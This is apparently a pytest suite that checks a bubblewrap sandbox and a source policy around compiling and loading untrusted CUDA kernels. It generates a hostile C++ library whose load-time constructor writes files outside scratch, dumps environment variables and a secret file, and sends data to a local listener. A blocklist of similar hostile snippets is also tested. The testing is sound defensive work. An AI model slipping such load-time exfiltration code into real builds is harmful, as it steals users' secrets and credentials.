"""The OS sandbox (bubblewrap) around nvcc and the GPU worker, with real bwrap, real nvcc and the
real worker process (its non-GPU ops), on a machine without a GPU.

Each hostile candidate is refused by the source policy with one line; then, with the policy
bypassed (``trusted=True``), the sandbox alone must contain it: no marker file outside scratch, no
connection to a listener on 127.0.0.1, the environment canary nowhere, an included secret file's
text nowhere. A control run without the sandbox shows each probe really does what it says.
"""

from __future__ import annotations

import os
import secrets
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from harness import sandbox
from harness import source_policy as sp
from harness.build import SOURCE_NAME, BuildInterrupted, build, build_cache_dir, kill_all_builds, scrub_log
from harness.testkernels import source as kernel_source
from harness.worker import GpuWorker

pytestmark = pytest.mark.skipif(not sandbox.probe().works, reason=f"bwrap does not work here: {sandbox.probe().detail}")

GOOD = kernel_source("testgood_simple")
CANARY = "sk_canary_" + secrets.token_hex(8)
ENTRY = 'extern "C" int l2_hgemm(const void* A, const void* B, void* C, int M, int N, int K, void* stream) { return 1; }\n'


class Listener:
    """A real TCP listener on 127.0.0.1 that records every connection."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = False
        self._t = threading.Thread(target=self._run, daemon=True)
        self._t.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            conn.settimeout(1.0)
            try:
                self.connections.append(conn.recv(256))
            except OSError:
                self.connections.append(b"")
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._t.join(timeout=5)
        self.sock.close()


def hostile_source(marker_paths: list[Path], port: int, secret_file: Path) -> str:
    """A candidate whose load-time constructor tries every escape, printing what it got to stderr."""
    markers = ", ".join(f'"{p}"' for p in marker_paths)
    return textwrap.dedent(f"""\
        #include <cstdio>
        #include <cstdlib>
        #include <cstring>
        #include <unistd.h>
        #include <sys/socket.h>
        #include <netinet/in.h>
        #include <arpa/inet.h>
        extern char** environ;
        static void dump(const char* path) {{
          FILE* f = fopen(path, "rb");
          if (!f) {{ fprintf(stderr, "HOSTILE cannot read %s\\n", path); return; }}
          char buf[4096]; size_t n = fread(buf, 1, sizeof(buf) - 1, f); buf[n] = 0; fclose(f);
          for (size_t i = 0; i < n; ++i) if (buf[i] == 0) buf[i] = ' ';
          fprintf(stderr, "HOSTILE read %s: %s\\n", path, buf);
        }}
        __attribute__((constructor)) static void hostile() {{
          fprintf(stderr, "HOSTILE-RAN pid=%d\\n", (int)getpid());
          const char* markers[] = {{{markers}}};
          for (const char* m : markers) {{
            FILE* f = fopen(m, "w");
            if (f) {{ fputs("escaped", f); fclose(f); fprintf(stderr, "HOSTILE wrote %s\\n", m); }}
          }}
          const char* c = getenv("L2TUI_TEST_CANARY");
          fprintf(stderr, "HOSTILE canary=%s\\n", c ? c : "(none)");
          for (char** e = environ; e && *e; ++e) fprintf(stderr, "HOSTILE env %s\\n", *e);
          dump("{secret_file}");
          dump("/proc/{os.getpid()}/environ");
          dump("/proc/1/environ");
          int s = socket(AF_INET, SOCK_STREAM, 0);
          struct sockaddr_in a; memset(&a, 0, sizeof(a));
          a.sin_family = AF_INET; a.sin_port = htons({port}); a.sin_addr.s_addr = inet_addr("127.0.0.1");
          if (s >= 0 && connect(s, (struct sockaddr*)&a, sizeof(a)) == 0) {{
            send(s, "HELLO", 5, 0); fprintf(stderr, "HOSTILE connected\\n");
          }} else {{
            fprintf(stderr, "HOSTILE no connection\\n");
          }}
          fprintf(stderr, "HOSTILE-DONE\\n");
        }}
        """) + ENTRY


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """A private build cache, the canary in the environment, a secret file and a listener."""
    root = tmp_path_factory.mktemp("sbx")
    mp = pytest.MonkeyPatch()
    mp.setenv("L2TUI_CACHE_DIR", str(root / "cache"))
    mp.setenv("L2TUI_TEST_CANARY", CANARY)
    mp.delenv("L2TUI_SANDBOX", raising=False)
    secret = root / "home" / ".env"
    secret.parent.mkdir()
    secret.write_text(CANARY + "\n")
    listener = Listener()
    outside = root / "outside"
    outside.mkdir()
    yield {"root": root, "secret": secret, "listener": listener, "outside": outside}
    listener.close()
    mp.undo()


@pytest.fixture(scope="module")
def hostile_so(env):
    markers = [env["outside"] / "marker", build_cache_dir() / "marker", env["secret"].parent / "marker"]
    src = hostile_source(markers, env["listener"].port, env["secret"])
    res = build(src, arch="sm_90a", trusted=True, use_cache=False)   # the policy bypassed: the sandbox alone
    assert res.ok, res.error_text()
    return {"so": res.so_path, "markers": markers, "src": src, "build": res}


def _worker_log(w: GpuWorker) -> str:
    assert w._stderr_path is not None
    return w._stderr_path.read_text(errors="replace")


# --------------------------------------------------------------------------- the policy, one line each

@pytest.mark.parametrize("snippet, rule", [
    ('__attribute__((constructor)) static void m() { FILE* f = fopen("/tmp/marker", "w"); }', "load-time-attribute"),
    ("struct M { M() { } }; static M m;", "static-init"),
    ('void c() { int s = socket(2, 1, 0); connect(s, nullptr, 0); }', "network"),
    ('void e() { const char* c = getenv("L2TUI_TEST_CANARY"); }', "host-io"),
    ("#include \"/tmp/canary.env\"", "include"),
    ("#include </proc/self/environ>", "include"),
])
def test_each_hostile_candidate_is_refused_with_one_line(snippet, rule):
    src = snippet + "\n" + GOOD
    res = build(src, arch="sm_90a")
    assert not res.ok and res.so_path is None and res.key == ""        # refused before nvcc
    first = str(res.errors[0])
    assert first.startswith(f"{SOURCE_NAME}:1:") and f"({rule})" in res.error_text() and "\n" not in first


@pytest.mark.compile
def test_the_hostile_candidate_itself_is_refused(hostile_so):
    rules = {m.split("(", 1)[1].split(")", 1)[0] for _, _, m in sp.violations(hostile_so["src"])}
    assert {"load-time-attribute", "host-io", "network", "include"} <= rules


# --------------------------------------------------------------------------- the sandbox alone

@pytest.mark.compile
def test_load_time_code_runs_inside_the_worker_sandbox_and_harms_nothing(env, hostile_so):
    with GpuWorker(sandbox=True, default_timeout_s=60) as w:
        assert w.call("_debug_load", path=str(hostile_so["so"])) == str(hostile_so["so"])
        assert w.sandboxed
        log = _worker_log(w)
    assert "HOSTILE-RAN" in log and "HOSTILE-DONE" in log          # the constructor really ran
    for m in hostile_so["markers"]:
        assert not m.exists(), f"{m} was written from inside the sandbox"
    assert "HOSTILE no connection" in log
    time.sleep(0.5)
    assert env["listener"].connections == []
    assert CANARY not in log and "canary=(none)" in log
    assert "HOSTILE cannot read " + str(env["secret"]) in log
    assert "HOME=" in log and f"HOME={Path.home()}" not in log     # HOME is the scratch folder


@pytest.mark.compile
def test_without_the_sandbox_the_same_library_escapes(env, hostile_so):
    """Control: each probe of the hostile library works when nothing contains it."""
    marker = hostile_so["markers"][0]
    try:
        with GpuWorker(sandbox=False, default_timeout_s=60) as w:
            w.call("_debug_load", path=str(hostile_so["so"]))
            log = _worker_log(w)
        assert marker.exists()
        assert "HOSTILE connected" in log
        deadline = time.monotonic() + 60   # a bound for the listener's thread, not a pace
        while not env["listener"].connections and time.monotonic() < deadline:
            time.sleep(0.05)
        assert env["listener"].connections and env["listener"].connections[0].startswith(b"HELLO")
        assert CANARY in log
    finally:
        env["listener"].connections.clear()
        for m in hostile_so["markers"]:
            m.unlink(missing_ok=True)


def test_the_sandboxed_worker_environment_is_an_allow_list(env):
    with GpuWorker(sandbox=True, default_timeout_s=60, env={"L2TUI_EXTRA": "1"}) as w:
        assert w.call("ping")["pid"] == w.pid != os.getpid()
    scratch = Path("/tmp/x")
    inside = sandbox.sandbox_env(scratch)
    assert "L2TUI_TEST_CANARY" not in inside and inside["HOME"] == str(scratch)
    os.environ["CUDA_API_KEY_X"] = "sk_secret"
    try:
        assert "CUDA_API_KEY_X" not in sandbox.sandbox_env(scratch)
    finally:
        del os.environ["CUDA_API_KEY_X"]


def test_the_python_installation_under_home_stays_visible_and_home_does_not(env):
    """The interpreter may live under $HOME (pyenv): it is bound back read-only by itself."""
    probe = ("import os, sys, harness; print('PY', sys.prefix); home = os.path.expanduser('~'); "
             f"print('SECRET', os.path.exists({str(env['secret'])!r})); print('HOMEISSCRATCH', home == os.getcwd())")
    scratch = env["root"] / "scratch-py"
    scratch.mkdir()
    argv = sandbox.worker_argv([sys.executable, "-c", probe], scratch)
    r = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    assert "SECRET False" in r.stdout and "HOMEISSCRATCH True" in r.stdout
    home = Path.home().resolve()
    assert home not in [p for p in sandbox.python_roots()]     # never all of HOME, at most a folder in it
    listing = subprocess.run(sandbox.worker_argv(["/bin/sh", "-c", f"ls -a {home} 2>&1; ls /proc"], scratch),
                             capture_output=True, text=True, timeout=60).stdout
    visible = set(listing.split())
    assert not ({".bashrc", ".ssh", ".config", ".cache"} & visible)
    assert str(os.getpid()) not in visible        # a fresh /proc: no view of the parent's processes


@pytest.mark.compile
def test_include_of_a_secret_file_leaks_nothing_with_the_policy_off(env):
    src = f'#include "{env["secret"]}"\n' + GOOD
    for mode in ("auto", "off"):                  # the sandboxed compiler, then the log filter alone
        prev = sandbox.set_mode(mode)
        try:
            res = build(src, arch="sm_90a", trusted=True, use_cache=False)
        finally:
            sandbox.set_mode(prev)
        assert not res.ok
        text = res.log + res.error_text() + repr(res.to_dict())
        assert CANARY not in text, mode
        assert str(env["secret"]) not in text and str(env["root"]) not in text


@pytest.mark.compile
def test_include_of_proc_environ_leaks_nothing(env):
    for mode in ("auto", "off"):
        prev = sandbox.set_mode(mode)
        try:
            res = build("#include </proc/self/environ>\n" + GOOD, arch="sm_90a", trusted=True, use_cache=False)
        finally:
            sandbox.set_mode(prev)
        assert CANARY not in res.log + res.error_text() + repr(res.to_dict())   # (procfs reads as empty)


def test_scrub_log_keeps_kernel_and_cutlass_diagnostics_and_drops_other_files():
    log = ("/w/kernel.cu(3): error: identifier \"x\" is undefined\n  x = 1;\n  ^\n"
           f"/home/u/.env(1): error: identifier \"{CANARY}\" is undefined\n  {CANARY}\n  ^\n"
           "ptxas info    : Used 32 registers\n")
    out = scrub_log(log, "/w")
    assert "kernel.cu(3): error" in out and "x = 1;" in out and "ptxas info" in out
    assert CANARY not in out and "/home/u" not in out and "hidden" in out


# --------------------------------------------------------------------------- interrupts

_BUILD_SCRIPT = """
import sys
from harness.build import build
print("building", flush=True)
r = build(open(sys.argv[1]).read(), arch="sm_90a", use_cache=False)
print("finished", r.ok, flush=True)
"""


def _compilers_of(tag: str) -> list[int]:
    """pids of processes whose command line names ``tag`` (the private cache folder)."""
    out = []
    for p in Path("/proc").iterdir():
        if not p.name.isdigit():
            continue
        try:
            cmd = (p / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if tag in cmd and int(p.name) != os.getpid():
            out.append(int(p.name))
    return out


def _start_build(tmp_path: Path, sandbox_mode: str) -> tuple[subprocess.Popen, Path]:
    cache = tmp_path / f"cache-{sandbox_mode}"
    src = tmp_path / "k.cu"
    src.write_text(GOOD + f"\n// {secrets.token_hex(4)}\n")   # never a cache hit
    env = dict(os.environ, L2TUI_CACHE_DIR=str(cache), L2TUI_SANDBOX=sandbox_mode)
    # SIGINT as a terminal delivers it, whatever the test runner inherited (a shell's background
    # job starts with SIGINT ignored, and so would this child: Ctrl-C would never reach it)
    proc = subprocess.Popen([sys.executable, "-c", _BUILD_SCRIPT, str(src)], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        if _compilers_of(str(cache)):
            return proc, cache
        if proc.poll() is not None:
            break
        time.sleep(0.05)
    proc.kill()
    raise AssertionError(f"no compiler started: {proc.stderr.read() if proc.stderr else ''}")


def _assert_all_gone(cache: Path) -> None:
    deadline = time.monotonic() + 15
    while _compilers_of(str(cache)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _compilers_of(str(cache)) == [], "compiler processes outlived the run"


@pytest.mark.compile
@pytest.mark.parametrize("sandbox_mode", ["auto", "off"])
def test_ctrl_c_kills_the_compiler_group_and_leaves_no_work_folder(tmp_path, sandbox_mode):
    proc, cache = _start_build(tmp_path, sandbox_mode)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert "finished" not in out and "KeyboardInterrupt" in err
    _assert_all_gone(cache)
    builds = cache / "builds"
    assert [p.name for p in builds.iterdir()] == []       # no work folder, no cache entry


@pytest.mark.compile
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_a_killed_run_takes_its_sandboxed_compilers_with_it(tmp_path, sig, monkeypatch):
    proc, cache = _start_build(tmp_path, "auto")
    proc.send_signal(sig)
    proc.communicate(timeout=60)
    _assert_all_gone(cache)
    # its work folder stays (nothing ran to remove it) until the next build sweeps it
    left = [p for p in (cache / "builds").iterdir() if p.name.startswith(".work-")]
    assert len(left) == 1
    monkeypatch.setenv("L2TUI_CACHE_DIR", str(cache))
    assert build(GOOD, arch="sm_90a").ok
    assert not left[0].exists()


@pytest.mark.compile
def test_kill_all_builds_interrupts_a_build_in_another_thread(tmp_path, monkeypatch):
    monkeypatch.setenv("L2TUI_CACHE_DIR", str(tmp_path / "cache"))
    box: list = []

    def run() -> None:
        try:
            box.append(build(GOOD + "\n// interrupted\n", arch="sm_90a", use_cache=False))
        except BaseException as e:  # noqa: BLE001
            box.append(e)

    t = threading.Thread(target=run)
    t.start()
    deadline = time.monotonic() + 120
    from harness import build as build_mod

    while not (_compilers_of(str(tmp_path / "cache")) and build_mod._LIVE) and time.monotonic() < deadline \
            and t.is_alive():
        time.sleep(0.05)
    assert kill_all_builds() == 1
    t.join(timeout=60)
    assert isinstance(box[0], BuildInterrupted) and "interrupted" in str(box[0])
    _assert_all_gone(tmp_path / "cache")
    assert list((tmp_path / "cache" / "builds").iterdir()) == []


# --------------------------------------------------------------------------- settings and the command line

def test_probe_reports_why_not(monkeypatch):
    monkeypatch.setenv("L2TUI_BWRAP", "/nonexistent/bwrap")
    st = sandbox.probe()
    assert not st.works and "L2TUI_BWRAP=/nonexistent/bwrap" in st.detail
    monkeypatch.setenv("L2TUI_BWRAP", "/bin/false")
    st = sandbox.probe()
    assert not st.works and "cannot create a sandbox here" in st.detail


def test_require_refuses_untrusted_work_without_bwrap(monkeypatch):
    monkeypatch.setenv("L2TUI_BWRAP", "/nonexistent/bwrap")
    prev = sandbox.set_mode("require")
    try:
        with pytest.raises(sandbox.SandboxUnavailable):
            sandbox.use_sandbox()
        assert sandbox.use_sandbox(trusted=True) is False
        with pytest.raises(sandbox.SandboxUnavailable):
            build(GOOD, arch="sm_90a", use_cache=False)
    finally:
        sandbox.set_mode(prev)


def test_cli_refuses_the_llm_policy_without_a_sandbox_and_warns_with_no_sandbox(tmp_path):
    env = dict(os.environ, L2TUI_BWRAP="/nonexistent/bwrap", L2TUI_CACHE_DIR=str(tmp_path))
    base = [sys.executable, "-m", "l2tui", "run", "--headless", "--policy", "llm", "--shapes", "64x64x64"]
    r = subprocess.run(base, capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and "sandbox" in lines[0] and "--no-sandbox" in lines[0] and "bubblewrap" in lines[0]
    r = subprocess.run(base + ["--no-sandbox"], capture_output=True, text=True, env=env, timeout=120)
    assert r.stderr.splitlines()[0] == sandbox.UNSANDBOXED_WARNING
    # the search policy runs without a sandbox (trusted catalog), no warning
    r = subprocess.run(base[:6] + ["search", "--shapes", "64x64x64"], capture_output=True, text=True, env=env,
                       timeout=120)
    assert "sandbox" not in r.stderr


def test_doctor_reports_the_sandbox(monkeypatch):
    from harness.doctor import check_sandbox

    c = check_sandbox()
    assert c.ok and "bubblewrap" in c.detail
    monkeypatch.setenv("L2TUI_BWRAP", "/nonexistent/bwrap")
    c = check_sandbox()
    assert not c.ok and "apt-get install bubblewrap" in c.fix and "--no-sandbox" in c.fix


def test_a_worker_that_must_be_sandboxed_is_refused_in_one_line_without_bwrap(monkeypatch):
    monkeypatch.setenv("L2TUI_BWRAP", "/nonexistent/bwrap")
    w = GpuWorker(sandbox=True)
    with pytest.raises(sandbox.SandboxUnavailable) as ei:
        w.call("ping")
    assert "\n" not in str(ei.value) and "bubblewrap" in str(ei.value)
    assert not w.alive and w._stderr_path is None and w._scratch is None
    w.close()


def test_a_bad_setting_is_one_line(monkeypatch):
    monkeypatch.setenv("L2TUI_SANDBOX", "maybe")
    with pytest.raises(sandbox.HarnessError) as ei:
        sandbox.mode()
    assert "L2TUI_SANDBOX" in str(ei.value) and "auto, require, off" in str(ei.value)
